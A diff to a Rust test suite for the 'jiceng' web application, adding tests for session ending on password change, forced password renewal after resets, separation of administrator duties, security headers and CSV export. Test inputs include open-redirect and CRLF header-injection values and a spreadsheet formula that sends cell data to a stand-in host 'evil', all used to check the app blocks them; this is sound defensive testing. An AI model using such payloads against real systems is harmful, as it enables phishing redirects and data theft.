@@ -3,7 +3,7 @@
 
 mod common;
 
-use axum::http::{Method, StatusCode};
+use axum::http::{Method, StatusCode, header};
 use common::{Engine, Session, TestApp, TestDb};
 use jiceng::audit;
 use serde_json::json;
@@ -18,6 +18,7 @@ on_both_engines!(
     township_staff_see_only_their_township,
     five_wrong_passwords_lock_the_account_for_fifteen_minutes,
     an_idle_session_expires_after_thirty_minutes,
+    changing_ones_password_ends_the_other_sessions,
     a_form_without_its_csrf_token_is_rejected,
     a_request_from_another_origin_is_rejected,
     the_audit_chain_detects_an_edited_row,
@@ -439,6 +440,66 @@ async fn five_wrong_passwords_lock_the_account_for_fifteen_minutes(t: TestDb) {
     );
 }
 
+async fn changing_ones_password_ends_the_other_sessions(t: TestDb) {
+    let app = TestApp::with_demo(t).await;
+    let here = app.login("xipu_window").await;
+    let elsewhere = app.login("xipu_window").await;
+    let change = |old: &str, new: &str| json!({"old_password": old, "new_password": new});
+    let r = app
+        .json(
+            Method::PUT,
+            "/api/v1/me/password",
+            &here,
+            change(common::PASSWORD, "Window-New-2026"),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
+    assert_eq!(app.get("/api/v1/me", &here).await.status, StatusCode::OK);
+    assert_eq!(
+        app.get("/api/v1/me", &elsewhere).await.status,
+        StatusCode::UNAUTHORIZED
+    );
+    // Two changes from the same old password at once: one of them, not both, is told it
+    // succeeded.
+    let (a, b) = (
+        app.try_login("xipu_window", "Window-New-2026")
+            .await
+            .unwrap(),
+        app.try_login("xipu_window", "Window-New-2026")
+            .await
+            .unwrap(),
+    );
+    let (ra, rb) = tokio::join!(
+        app.json(
+            Method::PUT,
+            "/api/v1/me/password",
+            &a,
+            change("Window-New-2026", "Alpha-Pass-2026")
+        ),
+        app.json(
+            Method::PUT,
+            "/api/v1/me/password",
+            &b,
+            change("Window-New-2026", "Bravo-Pass-2026")
+        ),
+    );
+    let done = [&ra, &rb]
+        .iter()
+        .filter(|r| r.status == StatusCode::NO_CONTENT)
+        .count();
+    assert_eq!(
+        done, 1,
+        "{} {} / {} {}",
+        ra.status, ra.body, rb.status, rb.body
+    );
+    let kept = if ra.status == StatusCode::NO_CONTENT {
+        "Alpha-Pass-2026"
+    } else {
+        "Bravo-Pass-2026"
+    };
+    assert!(app.try_login("xipu_window", kept).await.is_ok());
+}
+
 async fn an_idle_session_expires_after_thirty_minutes(t: TestDb) {
     let app = TestApp::with_demo(t).await;
     let s = app.login("xipu_officer").await;
@@ -566,6 +627,28 @@ async fn a_form_without_its_csrf_token_is_rejected(t: TestDb) {
         )
         .await;
     assert_eq!(r.status, StatusCode::SEE_OTHER);
+    // After signing in, only a path of this site: a tab the browser drops would make
+    // `/\t/evil.example` another site, and a line break cannot go in the header at all.
+    for (next, to) in [
+        ("/cases?page=2", "/cases?page=2"),
+        ("/\t/evil.example/phish", "/"),
+        ("/\r\nSet-Cookie: x=1", "/"),
+        ("//evil.example", "/"),
+    ] {
+        let r = app
+            .form(
+                "/login",
+                &Session::anonymous(),
+                &[
+                    ("username", "xipu_officer"),
+                    ("password", common::PASSWORD),
+                    ("next", next),
+                ],
+            )
+            .await;
+        assert_eq!(r.status, StatusCode::SEE_OTHER, "{next:?}: {}", r.body);
+        assert_eq!(r.location(), Some(to), "{next:?}");
+    }
 }
 
 async fn a_request_from_another_origin_is_rejected(t: TestDb) {
@@ -815,7 +898,7 @@ async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
     let app = TestApp::with_demo(t).await;
     let sec = app.login("secadmin").await;
     let id: i64 = app
-        .scalar("SELECT id FROM users WHERE username = 'sysadmin'")
+        .scalar("SELECT id FROM users WHERE username = 'xipu_officer'")
         .await;
     let r = app
         .json(
@@ -828,7 +911,7 @@ async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
     assert_eq!(r.status, StatusCode::NO_CONTENT, "{}", r.body);
     // The administrator's password opens no session: the owner must choose their own.
     let r = app
-        .try_login("sysadmin", "Temp-Reset-2026")
+        .try_login("xipu_officer", "Temp-Reset-2026")
         .await
         .unwrap_err();
     assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
@@ -837,7 +920,10 @@ async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
         .form(
             "/login",
             &Session::anonymous(),
-            &[("username", "sysadmin"), ("password", "Temp-Reset-2026")],
+            &[
+                ("username", "xipu_officer"),
+                ("password", "Temp-Reset-2026"),
+            ],
         )
         .await;
     assert_eq!(page.status, StatusCode::FORBIDDEN);
@@ -847,7 +933,7 @@ async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
         page.body
     );
     // A new one that breaks the policy is refused; a good one signs in, and replaces it.
-    let body = |new: &str| json!({"username": "sysadmin", "password": "Temp-Reset-2026", "new_password": new});
+    let body = |new: &str| json!({"username": "xipu_officer", "password": "Temp-Reset-2026", "new_password": new});
     let r = app
         .json(
             Method::POST,
@@ -867,10 +953,62 @@ async fn a_reset_password_is_replaced_at_the_next_sign_in(t: TestDb) {
         )
         .await;
     assert_eq!(r.status, StatusCode::OK, "{}", r.body);
-    assert!(app.try_login("sysadmin", "Temp-Reset-2026").await.is_err());
-    app.try_login("sysadmin", "Own-Choice-2026!")
+    assert!(
+        app.try_login("xipu_officer", "Temp-Reset-2026")
+            .await
+            .is_err()
+    );
+    app.try_login("xipu_officer", "Own-Choice-2026!")
         .await
         .expect("the owner's own password signs in without more ado");
+    // An administrator's password is not the security administrator's to reset (三员分立):
+    // the operators reset it on the server, and the owner replaces it as after any reset.
+    let sysadmin: i64 = app
+        .scalar("SELECT id FROM users WHERE username = 'sysadmin'")
+        .await;
+    let r = app
+        .json(
+            Method::POST,
+            &format!("/api/v1/users/{sysadmin}/password"),
+            &sec,
+            json!({"password": "Temp-Reset-2026"}),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    assert!(r.body.contains("jiceng account password"), "{}", r.body);
+    let before = app.login("sysadmin").await;
+    let temporary = jiceng::auth::reset_password_by_operator(app.db(), "sysadmin")
+        .await
+        .unwrap();
+    assert_eq!(
+        app.get("/api/v1/me", &before).await.status,
+        StatusCode::UNAUTHORIZED
+    );
+    let r = app.try_login("sysadmin", &temporary).await.unwrap_err();
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    app.try_renew("sysadmin", &temporary, "Sys-Own-Choice-2026")
+        .await
+        .expect("the owner sets their own");
+    let reset = app.audited("user.password_reset", Some("sysadmin")).await;
+    assert_eq!(reset.total, 1);
+    assert_eq!(reset.rows[0].actor, "系统:命令行");
+    // A successor administrator is set up the same way, and chooses their own password.
+    let temporary = jiceng::auth::create_account_by_operator(
+        app.db(),
+        "auditor2",
+        "新任审计员",
+        None,
+        &[jiceng::auth::Role::AuditAdmin],
+    )
+    .await
+    .unwrap();
+    let r = app.try_login("auditor2", &temporary).await.unwrap_err();
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    let auditor2 = app
+        .try_renew("auditor2", &temporary, "Audit-Own-Choice-2026")
+        .await
+        .unwrap();
+    assert_eq!(app.get("/audit", &auditor2).await.status, StatusCode::OK);
 }
 
 async fn accounts_follow_the_three_duty_separation(t: TestDb) {
@@ -899,10 +1037,19 @@ async fn accounts_follow_the_three_duty_separation(t: TestDb) {
     let id = r.json()["id"].as_i64().unwrap();
     let r = app.json(Method::POST, "/api/v1/users", &sec, ok).await;
     assert_eq!(r.status, StatusCode::CONFLICT);
+    // The password the administrator chose opens no session: the owner sets their own first,
+    // and the account page says so until then.
+    let page = app.get(&format!("/users/{id}"), &sec).await;
+    assert!(page.body.contains("待本人设置密码"), "{}", page.body);
+    let r = app.try_login("zhangsan", "Abcdefgh1!x").await.unwrap_err();
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    assert_eq!(r.json()["error"]["field"], "new_password", "{}", r.body);
     let z = app
-        .try_login("zhangsan", "Abcdefgh1!x")
+        .try_renew("zhangsan", "Abcdefgh1!x", "Zhang-Own-2026")
         .await
-        .expect("new account signs in");
+        .expect("new account signs in with its own password");
+    let page = app.get(&format!("/users/{id}"), &sec).await;
+    assert!(!page.body.contains("待本人设置密码"), "{}", page.body);
     // Disabling ends its sessions.
     let r = app
         .send(
@@ -917,8 +1064,11 @@ async fn accounts_follow_the_three_duty_separation(t: TestDb) {
         app.get("/api/v1/me", &z).await.status,
         StatusCode::UNAUTHORIZED
     );
-    let r = app.try_login("zhangsan", "Abcdefgh1!x").await.unwrap_err();
-    assert!(r.body.contains("停用"));
+    let r = app
+        .try_login("zhangsan", "Zhang-Own-2026")
+        .await
+        .unwrap_err();
+    assert!(r.body.contains("停用"), "{}", r.body);
     // Disabling it again changes nothing, and says so: no second audit row claims it did.
     let r = app
         .send(
@@ -979,8 +1129,19 @@ async fn accounts_follow_the_three_duty_separation(t: TestDb) {
             json!({"display_name": "审计员", "org_id": district, "roles": ["security_admin"]}),
         )
         .await;
-    assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.body);
-    assert!(r.body.contains("审计管理员"), "{}", r.body);
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
+    assert!(r.body.contains("三员"), "{}", r.body);
+    // Nor make a second audit administrator, whose password they would know.
+    let r = app
+        .json(
+            Method::POST,
+            "/api/v1/users",
+            &sec,
+            json!({"username": "shadow", "display_name": "影子", "org_id": district,
+                   "roles": ["audit_admin"], "password": "Audit-Copy-2026x"}),
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.body);
     let sysadmin = user_id("sysadmin").await;
     let r = app
         .send(
@@ -1153,6 +1314,34 @@ async fn readiness_reports_the_database(t: TestDb) {
         r.headers.get("x-request-id").is_some(),
         "every response carries a request id"
     );
+    // Pages are kept by no cache, framed by no site; the style sheet may be cached.
+    let page = app.get("/login", &Session::default()).await;
+    assert_eq!(page.headers[header::CACHE_CONTROL], "no-store");
+    let csp = page.headers[header::CONTENT_SECURITY_POLICY]
+        .to_str()
+        .unwrap();
+    assert!(
+        csp.contains("frame-ancestors 'none'") && csp.contains("base-uri 'none'"),
+        "{csp}"
+    );
+    let css = app.get("/static/app.css", &Session::default()).await;
+    assert_ne!(css.headers[header::CACHE_CONTROL], "no-store");
+    // A method a path does not take is answered in the API's shape.
+    let r = app
+        .send(
+            Method::DELETE,
+            "/api/v1/cases/categories",
+            &Session::default(),
+            None,
+        )
+        .await;
+    assert_eq!(r.status, StatusCode::METHOD_NOT_ALLOWED, "{}", r.body);
+    assert!(
+        r.json()["error"]["message"]
+            .as_str()
+            .unwrap()
+            .contains("DELETE")
+    );
     app.db().close().await;
     let r = app.get("/readyz", &Session::default()).await;
     assert_eq!(r.status, StatusCode::SERVICE_UNAVAILABLE);
@@ -1165,6 +1354,20 @@ async fn readiness_reports_the_database(t: TestDb) {
 async fn the_audit_admin_exports_csv(t: TestDb) {
     let app = TestApp::with_demo(t).await;
     let _ = app.try_login("xipu_officer", "bad-Password-1").await;
+    // Anyone can put a formula in the trail, as a username tried at the login.
+    let _ = app
+        .try_login("=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "x")
+        .await;
+    // Or a megabyte: the trail keeps the first 64 characters of a name no account has.
+    let _ = app.try_login(&"a".repeat(100_000), "x").await;
+    assert_eq!(
+        app.count(
+            "SELECT CAST(MAX(LENGTH(actor) + LENGTH(target)) AS BIGINT) FROM audit_log
+             WHERE target LIKE 'aaaaaaaa%'"
+        )
+        .await,
+        130
+    );
     let auditor = app.login("auditadmin").await;
     let r = app
         .get("/audit/export.csv?action=login_failed", &auditor)
@@ -1172,6 +1375,9 @@ async fn the_audit_admin_exports_csv(t: TestDb) {
     assert_eq!(r.status, StatusCode::OK);
     assert!(r.body.starts_with('\u{feff}'), "BOM for Excel");
     assert!(r.body.contains("登录失败") && r.body.contains("xipu_officer"));
+    let cells = r.body.to_lowercase();
+    assert!(cells.contains(",\"'=hyperlink("), "{}", r.body);
+    assert!(!cells.contains(",\"=hyperlink("), "{}", r.body);
     assert!(!r.body.contains("载入演示数据"), "filtered by action");
     let page = app.get("/audit?actor=xipu_officer", &auditor).await;
     assert!(page.body.contains("登录失败"));
